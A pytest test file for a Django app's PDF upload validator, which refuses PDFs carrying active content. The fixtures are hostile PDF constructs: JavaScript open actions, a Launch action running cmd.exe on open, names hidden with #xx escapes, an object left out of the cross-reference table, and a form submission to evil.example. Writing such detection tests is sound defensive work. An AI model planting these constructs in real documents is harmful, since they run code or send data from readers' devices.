"""PDFs that could run something on a reader's device are refused, each naming what it has.

Built here: with pypdf (document JavaScript, attachments, actions set on the
catalog, the pages and annotations) and by hand (a raw Launch action, names
written with #xx escapes, an object the cross-reference table does not list).
"""

import io
import random

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from awareness.documents import _active_names, validate_pdf
from awareness.models import Resource
from tests.awareness.builders import pdf_bytes, terms

JS = "JavaScript"
FILES = "embedded files"
LAUNCH = "a launch action"
EXTERNAL = "actions that send data or open other files"
AUTOMATIC = "actions that run by themselves"
MEDIA = "embedded media (RichMedia)"
XFA = "an XFA form"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    result = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    for key, value in entries.items():
        result[name(f"/{key}")] = value
    return result


def written(change) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def annotate(writer: PdfWriter, annotation: DictionaryObject) -> None:
    annotation.update(
        {
            name("/Type"): name("/Annot"),
            name("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 50, 50)]),
        }
    )
    page = writer.pages[0]
    page[name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def link(target: DictionaryObject):
    return lambda w: annotate(
        w, DictionaryObject({name("/Subtype"): name("/Link"), name("/A"): target})
    )


def raw_pdf(*extra_objects: bytes, catalog_extra: bytes = b"", trailing: bytes = b"") -> bytes:
    """A PDF written by hand: catalog, pages, one page, then ``extra_objects`` (4 0 obj...)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> >>",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out) + trailing


def set_catalog(key: str, value):
    return lambda w: w._root_object.__setitem__(name(key), value)


def set_page(key: str, value):
    return lambda w: w.pages[0].__setitem__(name(key), value)


def attach(w: PdfWriter) -> None:
    w.add_attachment("invoice.exe", b"MZ not really a program")


def file_annotation(w: PdfWriter) -> None:
    spec = DictionaryObject(
        {name("/Type"): name("/Filespec"), name("/F"): TextStringObject("a.txt")}
    )
    annotate(w, DictionaryObject({name("/Subtype"): name("/FileAttachment"), name("/FS"): spec}))


def js(code: str = "app.alert(1)") -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject(code))


MALICIOUS = {
    "document JavaScript (Names/JavaScript)": (
        written(lambda w: w.add_open_action(JavaScript("app.alert(1)"))),
        [JS],
    ),
    "/OpenAction with JavaScript": (written(set_catalog("/OpenAction", js())), [JS, AUTOMATIC]),
    "/AA on the catalog": (
        written(set_catalog("/AA", DictionaryObject({name("/WC"): js()}))),
        [JS, AUTOMATIC],
    ),
    "/AA on a page, even without script": (
        written(
            set_page("/AA", DictionaryObject({name("/O"): action("/Named", N=name("/Print"))}))
        ),
        [AUTOMATIC],
    ),
    "/OpenAction opening a web address (a tracker learns the reader's address)": (
        written(
            set_catalog("/OpenAction", action("/URI", URI=TextStringObject("https://t.example/")))
        ),
        [AUTOMATIC],
    ),
    "/OpenAction showing a page, then a chain of actions": (
        written(
            set_catalog(
                "/OpenAction",
                action(
                    "/GoTo", D=ArrayObject([name("/Fit")]), Next=action("/Named", N=name("/Print"))
                ),
            )
        ),
        [AUTOMATIC],
    ),
    "a link annotation running JavaScript": (written(link(js())), [JS]),
    "an attachment (Names/EmbeddedFiles)": (written(attach), [FILES]),
    "a file attachment annotation": (written(file_annotation), [FILES]),
    "a link submitting a form": (
        written(link(action("/SubmitForm", F=TextStringObject("https://evil.example/")))),
        [EXTERNAL],
    ),
    "a link importing data": (
        written(link(action("/ImportData", F=TextStringObject("data.fdf")))),
        [EXTERNAL],
    ),
    "a link to another PDF file (GoToR)": (
        written(link(action("/GoToR", F=TextStringObject("other.pdf")))),
        [EXTERNAL],
    ),
    "a RichMedia annotation": (
        written(lambda w: annotate(w, DictionaryObject({name("/Subtype"): name("/RichMedia")}))),
        [MEDIA],
    ),
    "an XFA form": (
        written(
            set_catalog("/AcroForm", DictionaryObject({name("/XFA"): TextStringObject("<xdp/>")}))
        ),
        [XFA],
    ),
    "a raw Launch action": (
        raw_pdf(
            b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
            catalog_extra=b"/OpenAction 4 0 R",
        ),
        [LAUNCH, AUTOMATIC],
    ),
    "a Launch action written /L#61unch": (
        raw_pdf(b"<< /S /L#61unch /F (calc.exe) >>", catalog_extra=b"/OpenAction 4 0 R"),
        [LAUNCH, AUTOMATIC],
    ),
    "/J#61vaScript in an object the xref does not list": (
        raw_pdf(trailing=b"9 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n"),
        [JS],
    ),
}


def refusal(data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as error:
        validate_pdf(SimpleUploadedFile("leaflet.pdf", data, content_type="application/pdf"))
    return error.value


@pytest.mark.parametrize("variant", MALICIOUS)
def test_each_malicious_variant_is_refused_naming_what_it_has(variant):
    data, expected = MALICIOUS[variant]
    with translation.override("en"):
        error = refusal(data)
        assert error.code == "active_content"
        (message,) = error.messages
    assert message.startswith("This PDF contains ")
    for label in expected:
        assert label in message
    for label in {JS, FILES, LAUNCH, EXTERNAL, AUTOMATIC, MEDIA, XFA} - set(expected):
        assert label not in message


def test_a_clean_pdf_and_one_opening_at_its_first_page_are_accepted():
    validate_pdf(SimpleUploadedFile("a.pdf", pdf_bytes()))
    validate_pdf(SimpleUploadedFile("b.pdf", raw_pdf()))
    go_to_first_page = written(
        lambda w: w._root_object.__setitem__(
            name("/OpenAction"), ArrayObject([w.pages[0].indirect_reference, name("/Fit")])
        )
    )
    validate_pdf(SimpleUploadedFile("c.pdf", go_to_first_page))
    go_to_action = written(
        set_catalog("/OpenAction", action("/GoTo", D=ArrayObject([name("/Fit")])))
    )
    validate_pdf(SimpleUploadedFile("e.pdf", go_to_action))
    validate_pdf(
        SimpleUploadedFile(
            "d.pdf", written(link(action("/URI", URI=TextStringObject("https://www.ilo.org/"))))
        )
    )


def test_the_raw_scan_reads_escaped_names_and_only_whole_names():
    assert _active_names(b"<< /S /J#61v#61Script >>") == {"javascript"}
    assert _active_names(b"/Embedded#46iles /Launch") == {"embedded", "launch"}
    assert _active_names(b"/JSON /AAB /Launcher /F1 12 Tf (/JS is text)") == {"javascript"}


def test_the_message_is_translated():
    data = MALICIOUS["a raw Launch action"][0]
    with translation.override("lt"):
        (message,) = refusal(data).messages
    assert message.startswith("Šiame PDF rasta: paleidimo veiksmas")
    assert "paleidimo veiksmas" in message


def test_the_admin_refuses_it_with_the_message_and_keeps_the_form(admin_client):
    language = terms()["lt"]
    data = MALICIOUS["/OpenAction with JavaScript"][0]
    response = admin_client.post(
        "/en/admin/awareness/resource/add/",
        {
            "title_lt": "Lankstinukas",
            "slug": "leaflet",
            "kind": "leaflet",
            "language": language.pk,
            "document": SimpleUploadedFile("leaflet.pdf", data, content_type="application/pdf"),
            "status": "published",
        },
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "This PDF contains JavaScript" in html
    assert 'value="Lankstinukas"' in html
    assert not Resource.objects.exists()


def test_damaged_files_get_a_message_never_an_error():
    """Malicious variants with a few bytes changed: refused or accepted, never a crash."""
    trailer_a_number = raw_pdf().replace(b"trailer\n<< /Size 4 /Root 1 0 R >>", b"trailer\n12")
    assert refusal(trailer_a_number).code == "unreadable"
    rnd = random.Random(13)  # noqa: S311 (the same damaged files on every run)
    variants = [data for data, _labels in MALICIOUS.values()]
    seen = set()
    for _attempt in range(150):
        data = bytearray(rnd.choice(variants))
        for _byte in range(rnd.randint(1, 6)):
            data[rnd.randrange(len(data))] = rnd.randrange(256)
        try:
            validate_pdf(SimpleUploadedFile("damaged.pdf", bytes(data)))
        except ValidationError as error:
            seen.add(error.code)
    assert {"unreadable", "active_content"} <= seen
